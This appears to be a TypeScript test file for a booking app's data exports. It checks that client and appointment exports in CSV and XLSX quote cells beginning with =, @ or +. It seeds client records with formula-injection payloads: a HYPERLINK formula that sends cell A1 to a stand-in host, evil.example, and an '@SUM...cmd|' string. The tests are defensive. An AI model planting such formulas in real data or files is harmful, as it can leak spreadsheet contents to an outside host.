import ExcelJS from 'exceljs';
import { loggedIn, testApp, type Agent, type TestApp } from '../helpers/app';

let t: TestApp;
let owner: Agent;
const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
beforeAll(async () => {
  t = await testApp();
  ({ agent: owner } = await loggedIn(t.app, { plan_name: 'Business Monthly' }));
  const client = (
    await owner.post('/api/v1/clients', { first_name: EVIL, last_name: '@SUM(1+1)*cmd|', email: 'evil@example.com' })
  ).json().data;
  const service = (await owner.post('/api/v1/services', { title: '+Cut', price: 3000, duration: 30 })).json().data;
  expect(
    (
      await owner.post('/api/v1/appointments', {
        type: 'service',
        service_id: service.id,
        client_ids: [client.id],
        date: '2027-03-01',
        start_time: '10:00',
      })
    ).statusCode,
  ).toBe(201);
});
afterAll(async () => t.close());

async function xlsxRows(body: Buffer, sheetName: string) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as never);
  const rows: unknown[][] = [];
  workbook.getWorksheet(sheetName)!.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
}

describe('exports never carry a live formula', () => {
  it('the clients export quotes cells starting with = or @, in CSV and XLSX', async () => {
    const csv = await owner.post('/api/v1/clients/export', { format: 'csv' });
    expect(csv.statusCode).toBe(200);
    const line = csv.body.trim().split('\n')[1];
    expect(line.startsWith('"\'=HYPERLINK(')).toBe(true);
    expect(line).toContain("'@SUM(1+1)*cmd|");
    expect(csv.body).not.toMatch(/(^|,)"?[=+@-]/m);

    const rows = await xlsxRows((await owner.post('/api/v1/clients/export', { format: 'xlsx' })).rawPayload, 'clients');
    expect(rows[1][0]).toBe(`'${EVIL}`);
    expect(rows[1][1]).toBe("'@SUM(1+1)*cmd|");
  });

  it('the appointments export quotes the client and service names and keeps the price a number, in pounds', async () => {
    const csv = await owner.post('/api/v1/appointments/export', {
      format: 'csv',
      from: '2027-03-01',
      to: '2027-03-01',
    });
    expect(csv.body).toContain("'+Cut");
    expect(csv.body).toContain(`'=HYPERLINK(`);
    const rows = await xlsxRows(
      (await owner.post('/api/v1/appointments/export', { format: 'xlsx', from: '2027-03-01', to: '2027-03-01' }))
        .rawPayload,
      'appointments',
    );
    expect(rows[1][4]).toBe("'+Cut");
    expect(String(rows[1][5]).startsWith("'=HYPERLINK(")).toBe(true);
    expect(rows[0][6]).toBe('Price (GBP)');
    expect(rows[1][6]).toBe(30);
  });
});
